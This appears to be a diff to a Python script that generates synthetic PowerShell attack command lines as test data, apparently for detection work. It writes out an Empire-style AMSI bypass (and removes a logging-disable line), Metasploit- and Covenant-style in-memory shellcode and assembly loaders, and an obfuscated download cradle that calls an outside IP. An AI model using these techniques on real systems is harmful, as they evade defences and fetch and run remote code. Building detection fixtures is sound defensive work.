@@ -70,11 +70,9 @@ def random_case(code: str) -> str:
 
 def empire_launcher() -> str:
     uri = rng.choice(URIS)
+    # Empire 2.0, as BOTSv2 (2017) saw it: AMSI bypass, then the stager.
     script = (
-        "If($PSVersionTable.PSVersion.Major -ge 3){$GPS=[ref].Assembly.GetType('System.Management.Automation.Utils')"
-        ".GetField('cachedGroupPolicySettings','NonPublic,Static').GetValue($null);"
-        "$GPS['ScriptBlockLogging']['EnableScriptBlockLogging']=0;"
-        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)};"
+        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')|?{$_}|%{$_.GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)};"
         "[System.Net.ServicePointManager]::Expect100Continue=0;"
         "$wc=New-Object System.Net.WebClient;"
         f"$u='{UA}';"
@@ -201,5 +199,72 @@ def main() -> None:
     write("splunk-export.csv", buf.getvalue())
 
 
+def gzip_b64(data: bytes) -> str:
+    c = zlib.compressobj(9, zlib.DEFLATED, 31)
+    return base64.b64encode(c.compress(data) + c.flush()).decode()
+
+
+def deflate_b64(data: bytes) -> str:
+    c = zlib.compressobj(9, zlib.DEFLATED, -15)
+    return base64.b64encode(c.compress(data) + c.flush()).decode()
+
+
+def other_stagers() -> list:
+    """Synthetic stagers in the shapes of other frameworks (our own text and bytes)."""
+    lines = []
+    # Metasploit-style psh runner: gzip script mapping x86 reverse_tcp-like bytes
+    # (cld; call ... push 192.168.1.2; push 0x5c110002 = AF_INET, port 4444).
+    sc = bytes.fromhex("fce8820000006089e531c0648b5030") + b"\x68\xc0\xa8\x01\x02\x68\x02\x00\x11\x5c" + bytes(16)
+    inner = ("function fa { Param ($m, $p) $u = ([AppDomain]::CurrentDomain.GetAssemblies() | Where-Object "
+             "{ $_.GlobalAssemblyCache }).GetType('Microsoft.Win32.UnsafeNativeMethods'); "
+             "return $u.GetMethod('GetProcAddress').Invoke($null, @($m, $p)) }\n"
+             f"[Byte[]]$sc = [System.Convert]::FromBase64String(\"{base64.b64encode(sc).decode()}\")\n"
+             "$mem = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer((fa kernel32.dll "
+             "VirtualAlloc), [IntPtr]).Invoke([IntPtr]::Zero, $sc.Length, 0x3000, 0x40)\n")
+    lines.append("powershell.exe -nop -w hidden -noni -c &([scriptblock]::create((New-Object System.IO.StreamReader("
+                 "New-Object System.IO.Compression.GzipStream((New-Object System.IO.MemoryStream(,[System.Convert]::"
+                 f"FromBase64String('{gzip_b64(inner.encode())}'))),[System.IO.Compression.CompressionMode]::"
+                 "Decompress))).ReadToEnd()))")
+    # Covenant-style launcher: deflate + Assembly.Load of a (tiny, fake) .NET PE
+    # whose user strings hold the C2 URL in UTF-16LE.
+    pe = bytearray(0x200)
+    pe[0:2] = b"MZ"
+    pe[0x3C] = 0x80
+    pe[0x80:0x84] = b"PE\0\0"
+    url = "http://10.10.5.5:8080".encode("utf-16-le")
+    pe[0x100:0x100 + len(url)] = url
+    lines.append('"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -Sta -Nop -Window Hidden '
+                 '-Command "sv o (New-Object IO.MemoryStream);sv d (New-Object IO.Compression.DeflateStream('
+                 f"[IO.MemoryStream][Convert]::FromBase64String('{deflate_b64(bytes(pe))}'),"
+                 "[IO.Compression.CompressionMode]::Decompress));sv b (New-Object Byte[](1024));"
+                 "sv r (gv d).Value.Read((gv b).Value,0,1024);while((gv r).Value -gt 0){(gv o).Value.Write("
+                 "(gv b).Value,0,(gv r).Value);sv r (gv d).Value.Read((gv b).Value,0,1024);}"
+                 '[Reflection.Assembly]::Load((gv o).Value.ToArray()).EntryPoint.Invoke(0,@(,[string[]]@()))|Out-Null"')
+    # A download cradle hidden by string obfuscation (concatenation, format, [char]).
+    lines.append("powershell -ep bypass -c \"IEX ((New-Object Net.WebClient).('Down'+'loadString').Invoke("
+                 "('{1}{0}' -f '45.77.65.211/news.php','http://')))\"; powershell -c \"&([char]73+[char]69+[char]88) 'whoami'\"")
+    # Base64 inside base64: -enc of a script that runs an ASCII FromBase64String payload.
+    stage2 = "Get-WmiObject Win32_ComputerSystem | Select-Object Domain"
+    outer = ("IEX ([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String('"
+             + base64.b64encode(stage2.encode()).decode() + "')))")
+    lines.append("cmd.exe /c powershell -e " + enc(outer))
+    return lines
+
+
+def generated_launchers() -> list:
+    """One Empire launcher per generation under several wrappers (tests/gen/empire_gen.py)."""
+    import subprocess
+    import sys
+    out = subprocess.run([sys.executable, str(ROOT / "tests" / "gen" / "empire_gen.py"),
+                          "--count", "10", "--seed", "7"], capture_output=True, text=True, check=True)
+    return [json.loads(line)["cmdline"] for line in out.stdout.splitlines()]
+
+
+def extra() -> None:
+    write("stagers.txt", "".join(l + "\n" for l in other_stagers()))
+    write("empire-launchers.txt", "".join(l + "\n" for l in generated_launchers()))
+
+
 if __name__ == "__main__":
     main()
+    extra()
